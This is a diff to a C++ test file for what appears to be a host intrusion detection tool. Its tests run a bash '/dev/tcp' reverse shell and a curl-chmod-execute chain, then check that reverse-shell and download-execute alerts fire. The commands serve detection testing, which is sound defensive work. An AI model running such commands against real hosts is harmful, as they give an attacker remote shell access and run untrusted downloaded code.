@@ -93,7 +93,7 @@ TEST_CASE("detection: reverse shells, and shells that are not", "[detect][root]"
   const int port = serve_in(ns, dir, 4444, 1, "exit\n");
   REQUIRE(port == 4444);
   rig.run("bash -c 'bash -i >& /dev/tcp/" + ns.remote_ip() + "/4444 0>&1'");
-  const Json bash = one_alert(rig, "reverse-shell.*", "/dev/tcp/" + ns.remote_ip() + "/4444");
+  const Json bash = one_alert(rig, "reverse-shell.*", "bash -i");
   CHECK(bash["severity"] == "critical");
   CHECK(bash["lineage"][0]["command_line"] == "bash -i");
   CHECK(has_event(bash, "exec", "/bash"));
@@ -162,7 +162,9 @@ TEST_CASE("detection: download and execute, curl | sh", "[detect][root]") {
 
   rig.run("curl -sf -o " + program + " " + base + "/f && chmod +x " + program + " && " + program);
   std::filesystem::remove(program);
-  const Json file = one_alert(rig, "download-execute.*", "chmod +x " + program);
+  // The alert's process is chmod or the program itself (bash runs the
+  // last command of a list in its own process).
+  const Json file = one_alert(rig, "download-execute.*", program);
   CHECK((file["rule"] == "download-execute.downloaded-file" ||
          file["rule"] == "download-execute.written-after-connect"));
   CHECK(has_event(file, "file", "/curl"));
